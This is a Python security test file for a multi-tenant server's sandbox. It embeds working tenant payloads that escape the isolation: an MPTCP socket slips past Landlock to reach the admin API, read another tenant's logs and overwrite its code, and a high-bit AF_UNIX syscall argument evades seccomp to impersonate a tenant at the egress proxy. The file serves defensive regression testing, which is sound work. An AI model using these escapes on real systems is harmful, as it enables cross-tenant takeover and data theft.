"""Attack round 10: the layers around the language sandbox, against the real
``muxserver`` command (default isolation).

Each test is an attack that works today, so each is a strict xfail: it
passes (the attack is refused) once the hole is closed, and the xfail then
turns into a failure that says to drop the marker.

1. A process tenant opens a Multipath TCP socket (``IPPROTO_MPTCP``):
   Landlock's TCP rules hold for TCP only, so the socket connects to any
   port — the admin API on loopback, which needs no token from loopback —
   and replaces another tenant's code.
2. A process tenant passes ``AF_UNIX | 1 << 32`` to ``socket()``: seccomp
   compares 64 bits, the kernel reads 32, and the tenant holds a unix
   socket; it connects to the egress proxy's unix socket and calls out as
   another tenant.
"""

import ctypes
import io
import json
import socket
import tarfile

import pytest
import requests

from muxserver.isolation import landlock
from tests.conftest import Subprocess
from tests.conftest import write_tenant

pytestmark = pytest.mark.live

MPTCP_REACHES_ADMIN = """\
    import io, json, os, socket, tarfile
    from flask import Flask
    app = Flask(__name__)
    ADMIN = int(os.environ["ADMIN_PORT"])

    def call(method, path, body=b""):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)  # IPPROTO_MPTCP
        s.settimeout(20)
        s.connect(("127.0.0.1", ADMIN))
        head = (f"{method} {path} HTTP/1.1\\r\\nHost: 127.0.0.1:{ADMIN}\\r\\n"
                f"Content-Length: {len(body)}\\r\\nConnection: close\\r\\n\\r\\n")
        s.sendall(head.encode() + body)
        out = b""
        while chunk := s.recv(65536):
            out += chunk
        return out.decode("utf-8", "replace")

    @app.route("/plain-tcp")
    def plain_tcp():
        try:
            socket.create_connection(("127.0.0.1", ADMIN), timeout=5)
            return "connected"
        except OSError as exc:
            return f"refused: {exc}"

    @app.route("/logs")
    def logs():
        return call("GET", "/_mux/tenants/victim/logs")

    @app.route("/takeover")
    def takeover():
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w:gz") as tar:
            data = b"def get():\\n    return 'owned by mole'\\n"
            info = tarfile.TarInfo("index.py")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
        return call("PUT", "/_mux/tenants/victim", buf.getvalue())
    """

UNIX_BY_HIGH_BITS = """\
    import ctypes, json, os, socket, struct
    from flask import Flask
    app = Flask(__name__)
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long

    @app.route("/plain")
    def plain():
        try:
            socket.socket(socket.AF_UNIX)
            return "made"
        except OSError as exc:
            return f"refused: {exc}"

    @app.route("/egress-as/<name>")
    def egress_as(name):
        fd = libc.syscall(41, ctypes.c_long(1 | 1 << 32), ctypes.c_long(1), ctypes.c_long(0))
        if fd < 0:
            return f"refused: errno {ctypes.get_errno()}"
        s = socket.socket(fileno=fd)
        s.settimeout(10)
        s.connect(os.environ["EGRESS_SOCK"])
        body = json.dumps({"id": 1, "tenant": name, "host": "127.0.0.1",
                           "port": int(os.environ["ORIGIN_PORT"])}).encode()
        s.sendall(struct.pack("!IB", len(body), 1) + body)
        data, fds, _, _ = socket.recv_fds(s, 1 << 16, 4)
        reply = json.loads(data[5:])
        if not fds:
            return f"no connection: {reply}"
        up = socket.socket(fileno=fds[0])
        up.settimeout(10)
        up.sendall(b"GET /private HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n")
        out = b""
        while chunk := up.recv(65536):
            out += chunk
        return out.decode("utf-8", "replace")
    """


@pytest.fixture(scope="module")
def origin():
    """A service on loopback no tenant's [egress] allow names except the victim's."""
    from gevent.pywsgi import WSGIServer

    def app(environ, start_response):
        start_response("200 OK", [("Content-Type", "text/plain")])
        return [b"internal service: victim-only data"]

    server = WSGIServer(("127.0.0.1", 0), app, log=None)
    server.start()
    yield server.server_port
    server.stop()


@pytest.fixture(scope="module")
def server(tmp_path_factory, origin):
    root = tmp_path_factory.mktemp("round10")
    tenants = root / "tenants"
    port, admin_port = _free_port(), _free_port()
    write_tenant(tenants, "victim", {
        "tenant.toml": '[egress]\nallow = ["127.0.0.1"]\n',
        "index.py": "import logging\n"
                    "def get():\n"
                    "    logging.getLogger('victim').warning('victim-secret-4411')\n"
                    "    return 'victim original'\n"})
    write_tenant(tenants, "mole", {
        "tenant.toml": f'runtime = "process"\n[env]\nADMIN_PORT = "{admin_port}"\n',
        "app.py": MPTCP_REACHES_ADMIN})
    write_tenant(tenants, "burrow", {
        "tenant.toml": 'runtime = "process"\n[env]\n'
                       f'EGRESS_SOCK = "{root / ".muxserver" / "run" / "egress.sock"}"\n'
                       f'ORIGIN_PORT = "{origin}"\n',
        "app.py": UNIX_BY_HIGH_BITS})
    config = root / "mux.toml"
    config.write_text('process_tenants = ["mole", "burrow"]\n'
                      f'cache_dir = "{root / "cache"}"\ndata_dir = "{root / "data"}"\n'
                      '[egress]\nallow = ["127.0.0.1"]\nprivate = ["127.0.0.0/8"]\n')
    proc = Subprocess(["--tenants-dir", str(tenants), "--config", str(config), "--no-watch",
                       "--workers", "1"], port=port, admin_port=admin_port,
                      log_dir=root).wait_ready(timeout=240)
    yield proc
    proc.stop()


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _landlock_net() -> bool:
    return landlock.abi_version() >= 4


def _mptcp_enabled() -> bool:
    try:
        with open("/proc/sys/net/mptcp/enabled") as f:
            return f.read().strip() == "1"
    except OSError:
        return False


def test_plain_tcp_from_a_process_tenant_is_refused(server):
    """The control: Landlock refuses a plain TCP connect to the admin port."""
    if not _landlock_net():
        pytest.skip("no Landlock TCP rules here")
    r = requests.get(server.url + "/mole/plain-tcp", timeout=60)
    assert r.status_code == 200, r.text + server.output()[-3000:]
    assert r.text.startswith("refused"), r.text


def test_a_process_tenant_reads_another_tenants_logs_over_mptcp(server):
    if not (_landlock_net() and _mptcp_enabled()):
        pytest.skip("needs Landlock TCP rules and net.mptcp.enabled = 1")
    assert requests.get(server.url + "/victim/", timeout=30).text == "victim original"
    r = requests.get(server.url + "/mole/logs", timeout=60)
    assert "victim-secret-4411" not in r.text, r.text


def test_a_process_tenant_deploys_over_another_tenant_over_mptcp(server):
    if not (_landlock_net() and _mptcp_enabled()):
        pytest.skip("needs Landlock TCP rules and net.mptcp.enabled = 1")
    r = requests.get(server.url + "/mole/takeover", timeout=120)
    print(r.text[:600])
    assert requests.get(server.url + "/victim/", timeout=30).text != "owned by mole"


def test_a_plain_unix_socket_is_refused(server):
    """The control: seccomp refuses socket(AF_UNIX, ...)."""
    r = requests.get(server.url + "/burrow/plain", timeout=60)
    assert r.status_code == 200, r.text + server.output()[-3000:]
    assert r.text.startswith("refused"), r.text


def test_a_process_tenant_calls_out_as_another_tenant_through_the_unix_socket(server):
    own = requests.get(server.url + "/burrow/egress-as/burrow", timeout=60)
    # The unix socket itself is refused since (seccomp reads the family's 64
    # bits); before, the proxy refused burrow's own name, as its allow is empty.
    assert "refused: errno 1" in own.text or "not in tenant burrow's [egress] allow" in own.text, \
        own.text
    r = requests.get(server.url + "/burrow/egress-as/victim", timeout=60)
    print(r.text[:600])
    assert "victim-only data" not in r.text, r.text
